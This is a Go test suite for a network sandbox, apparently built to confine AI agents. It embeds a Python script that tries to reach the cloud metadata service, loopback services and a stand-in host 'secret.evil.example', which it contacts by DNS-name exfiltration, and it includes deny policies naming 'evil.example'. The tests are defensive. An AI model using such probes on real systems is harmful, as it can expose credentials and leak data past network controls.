//go:build linux

package network

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"github.com/nono-run/nono/test/internet"
)

// myAgent tries to reach everybody, and says what it reached.
const myAgent = `
import socket, sys, urllib.request

def fetch(url):
    return lambda: urllib.request.urlopen(url, timeout=10).read().startswith(b"reached")

def datagram(host, port, payload):
    def send():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(payload, (host, port))
        return bool(s.recv(4096))
    return send

question = b"\0\7\1\0\0\1\0\0\0\0\0\0" + b"\6secret\4evil\7example\0" + b"\0\1\0\1"
for what, attempt in {
    "a provider": fetch("https://api.openai.com/"),
    "another provider": fetch("https://api.anthropic.com/v1/"),
    "another host": fetch("https://github.com/"),
    "the metadata service": fetch("http://169.254.169.254/"),
    "a service of the host": fetch("http://127.0.0.1/"),
    "UDP": datagram("6.6.6.66", 443, b"x"),
    "a name as a message": lambda: bool(socket.getaddrinfo("secret.evil.example", 443)),
    "the same, asked directly": datagram("6.6.6.53", 53, question),
}.items():
    try:
        answer = "yes" if attempt() else "no"
    except Exception:
        answer = "no"
    print(what + ":", answer)
`

// TestMinimal is what nono is for, typed as its users do.
func TestMinimal(t *testing.T) {
	var i *internet.Internet
	begin := func() {
		i = internet.Here(t)
		for host, address := range map[string]string{
			"api.openai.com": "6.6.6.70", "api.anthropic.com": "6.6.6.71", "github.com": "6.6.6.72",
			"secret.evil.example": "6.6.6.66",
		} {
			i.Authority.Set(host, netip.MustParseAddr(address))
		}
	}
	begin()
	serveLoopback(t, i)
	u := newUser(t)
	u.Write("proj/my_agent.py", myAgent)
	everything := []string{
		"a provider", "another provider", "another host", "the metadata service", "a service of the host", "UDP",
		"a name as a message", "the same, asked directly",
	}
	expect := func(r result, reached int) {
		t.Helper()
		var want strings.Builder
		for n, what := range everything {
			fmt.Fprintf(&want, "%s: %s\n", what, map[bool]string{true: "yes", false: "no"}[n < reached])
		}
		if r.Stdout != want.String() {
			t.Error(r)
		}
	}
	expect(u.Finish(u.Command("python3", "my_agent.py")), len(everything))
	begin()
	r := u.Finish(u.Command(base+"/bin/nono", "run", "--allow-cwd", "--network-profile", "minimal", "--", "python3", "my_agent.py"))
	expect(r, 2)
	if !strings.Contains(r.Stderr, "network: 16 hosts by profile minimal") {
		t.Error(r)
	}
	expectOnly(t, i, map[string]bool{
		"tcp 6.6.6.70:443": true, "tcp 6.6.6.71:443": true, "udp 6.6.6.53:53": true, "tcp 6.6.6.53:53": true,
	})
	if i.Authority.Asked("evil.example") || i.Authority.Asked("github.com") {
		t.Errorf("asked was %v", i.Authority.Queries())
	}
}

// TestEmptyListAllowsNothing: a policy that names no host is a closed network, and not an open one.
func TestEmptyListAllowsNothing(t *testing.T) {
	for _, policy := range []string{"", "network {}", "network { allow = [] }", "network { groups = [] }", `network { deny = ["evil.example"] }`} {
		i := internet.Here(t)
		u := newUser(t)
		r := u.Finish(u.inside(policy, base+"/bin/agent", "try", "tcp=6.6.6.10:80", "udp=6.6.6.10:443", "tcp=evil.example:80"))
		if strings.Contains(r.Stdout, "reached") || strings.Contains(r.Stdout, "ok\n") {
			t.Errorf("%q: %s", policy, r)
		}
		expectOnly(t, i, nil)
		if q := i.Authority.Queries(); len(q) > 0 {
			t.Errorf("%q: asked was %v", policy, q)
		}
	}
	// The control.
	u := newUser(t)
	r := u.Finish(u.inside(`network { allow = ["6.6.6.10"] }`, base+"/bin/agent", "try", "tcp=6.6.6.10:80"))
	if !strings.Contains(r.Stdout, "reached 6.6.6.10") {
		t.Error(r)
	}
}

// TestWhy: what nono says of a host is what happens to it. Of a name that is allowed it speaks
// without asking where that leads.
func TestWhy(t *testing.T) {
	internet.Here(t)
	u := newUser(t)
	file := u.Write("agent.hcl", policy)
	for _, p := range places {
		parsed, err := url.Parse(p.url)
		if err != nil {
			t.Fatal(err)
		}
		port := parsed.Port()
		if port == "" {
			port = map[string]string{"http": "80", "https": "443"}[parsed.Scheme]
		}
		r := u.Finish(u.Command(base+"/bin/nono", "why", "-c", file, "--approve", "--json", "--host", parsed.Hostname(), "--port", port))
		var said struct {
			Hosts []struct{ Allowed bool }
		}
		if err := json.Unmarshal([]byte(r.Stdout), &said); err != nil || len(said.Hosts) != 1 {
			t.Errorf("%s: %v: %s", p.url, err, r)
			continue
		}
		allowed := p.allowed || strings.HasSuffix(parsed.Hostname(), ".good.example") && port == "80"
		if said.Hosts[0].Allowed != allowed || r.Code != map[bool]int{true: 0, false: 1}[allowed] {
			t.Errorf("%s: %s", p.url, r)
		}
	}
}

// TestNothingWaits: what is not there is refused at once, so that a client takes the next way.
func TestNothingWaits(t *testing.T) {
	i := internet.Here(t)
	i.Authority.Set("api.good.example", netip.MustParseAddr("6.6.6.10"))
	const a, txt, aaaa, https = 1, 16, 28, 65
	tries := [][2]string{
		{fmt.Sprintf("query=udp||api.good.example|%d", a), "RCodeSuccess with 1 answers"},
		{fmt.Sprintf("query=udp||api.good.example|%d", aaaa), "RCodeSuccess with 0 answers"},
		{fmt.Sprintf("query=udp||api.good.example|%d", https), "RCodeSuccess with 0 answers"},
		{fmt.Sprintf("query=tcp||api.good.example|%d", txt), "RCodeSuccess with 0 answers"},
		{fmt.Sprintf("query=udp||evil.example|%d", a), "RCodeNameError with 0 answers"},
		{fmt.Sprintf("query=udp||evil.example|%d", https), "RCodeNameError with 0 answers"},
		{"udp=api.good.example:443", "refused"},
		{"tcp=api.good.example:22", "refused"},
		{"tcp=6.6.6.66:80", "unreachable"},
		{"tcp=[2a00:6666::66]:80", "unreachable"},
	}
	var asked []string
	for _, pair := range tries {
		asked = append(asked, pair[0])
	}
	// Whoever waits for an answer is told at the end that there was none.
	u := newUser(t)
	for n, outcome := range u.try(u.inside(threatPolicy, base+"/bin/agent", "try"), asked) {
		if !strings.Contains(outcome, tries[n][1]) {
			t.Errorf("%s: %s", asked[n], outcome)
		}
	}
}

// TestWebSocket: an upgrade to a WebSocket passes in clear, and bytes go both ways after it.
func TestWebSocket(t *testing.T) {
	i := internet.Here(t)
	i.Authority.Set("api.good.example", netip.MustParseAddr("6.6.6.10"))
	i.Web.Handle("api.good.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			http.Error(w, "no upgrade", http.StatusBadRequest)
			return
		}
		c, buffered, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
		echo(c, buffered.Reader)
	}))
	const shake = `HTTP/1.1\r\nHost: api.good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\nframe`
	u := newUser(t)
	for n, outcome := range u.try(u.inside(threatPolicy, base+"/bin/agent", "try"), []string{
		"raw=GET http://api.good.example/ " + shake,
		"direct=api.good.example:80|GET / " + shake,
		"tunnel=api.good.example:80|GET / " + shake,
	}) {
		if !strings.Contains(outcome, " 101 ") || !strings.HasSuffix(outcome, "reached by frame") {
			t.Errorf("%d: %s", n, outcome)
		}
	}
}

// echo says once what it was told.
func echo(c net.Conn, in *bufio.Reader) {
	frame := make([]byte, len("frame"))
	if _, err := io.ReadFull(in, frame); err == nil {
		fmt.Fprintf(c, "reached by %s", frame)
	}
}
